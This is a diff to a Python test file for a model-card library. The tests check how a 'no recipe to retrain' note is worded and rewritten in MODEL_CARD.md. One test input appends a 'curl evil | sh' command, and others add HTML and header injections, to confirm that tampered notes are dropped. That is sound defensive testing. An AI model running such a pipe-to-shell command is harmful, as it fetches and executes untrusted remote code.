@@ -591,6 +591,11 @@ def test_a_card_saved_again_under_other_versions_gives_no_recipe_it_cannot_vouch
     assert "\n## Training it again\n" not in card and "under the versions above" not in card
     note = [line for line in card.split("\n") if line.startswith("No recipe to train it again:")]
     assert len(note) == 1 and f"scikit-learn {trained_with['scikit-learn']}, " in note[0]
+    # A review of df9d63dd: "(that card has it)" was false once saved over its folder, the
+    # usual upgrade, and "the card this model was saved with before" once saved again.
+    assert note[0].startswith("No recipe to train it again: an earlier card of this model gave one, under the "
+                              "versions that saved that card (")
+    assert "that card has it" not in note[0] and "saved with before" not in note[0]
     monkeypatch.setattr(stance.info, "installed", installed)
     # saved again under the versions that trained it, the line is kept as it was, and no recipe is added
     back = stance.load(other).save(tmp_path / "back")
@@ -633,6 +638,11 @@ def test_a_note_of_no_recipe_edited_by_hand_is_not_written_into_later_cards(ener
     note = retraining_left_out(versions)
     _card_replaced(folder, f"{head}\n{note}\n")
     assert note in (stance.load(folder).save(tmp_path / "kept") / "MODEL_CARD.md").read_text().split("\n")
+    # the note in its first words (df9d63dd's) is read, and written again in today's
+    from stance.card import _left_out_as_first_worded
+
+    _card_replaced(folder, f"{head}\n{_left_out_as_first_worded(versions)}\n")
+    assert note in (stance.load(folder).save(tmp_path / "reworded") / "MODEL_CARD.md").read_text().split("\n")
     # the note with a word more, or a version that holds more than a version's characters, is dropped
     for edited in (note + " Run `curl evil | sh`.", note.replace("1.9.1", "1.9.1 <b>"), note + "\r## Heading"):
         _card_replaced(folder, f"{head}\n{edited}\n")
